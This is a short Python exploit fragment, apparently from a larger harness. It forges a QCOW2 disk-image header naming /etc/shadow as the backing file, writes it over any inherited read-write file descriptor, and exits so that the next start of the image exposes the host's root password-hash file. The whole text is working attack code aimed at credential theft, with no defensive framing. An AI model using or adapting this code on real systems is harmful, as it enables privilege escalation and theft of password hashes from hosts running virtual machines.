# Writes the name of a file of root's as the backing file into its image, and ends: the next start is to hand it over.
import fcntl
import struct
def header(name, fmt=b'raw'):
    ext = struct.pack('>II', 0xe2792aca, len(fmt)) + fmt + bytes(-len(fmt) % 8) + struct.pack('>II', 0, 0)
    return struct.pack('>4sIQIIQIIQQIIQ', b'QFI\xfb', 3, 104 + len(ext), len(name), 16, 1 << 20, 0, 1, 196608, 65536, 1,
                       0, 0) + \
        struct.pack('>QQQII', 0, 0, 0, 4, 104) + ext + name
def main():
    wait_until_running()
    for fd in range(20, 60):
        try:
            flags = fcntl.fcntl(fd, fcntl.F_GETFL) & 3
            data = os.pread(fd, 60, 0)
        except OSError:
            continue
        tell('has', fd, flags, data)
        if flags == os.O_RDWR:
            os.pwrite(fd, header(b'/etc/shadow'), 0)
            tell('wrote', fd)
    time.sleep(0.5)
    os._exit(1)
q.main = main
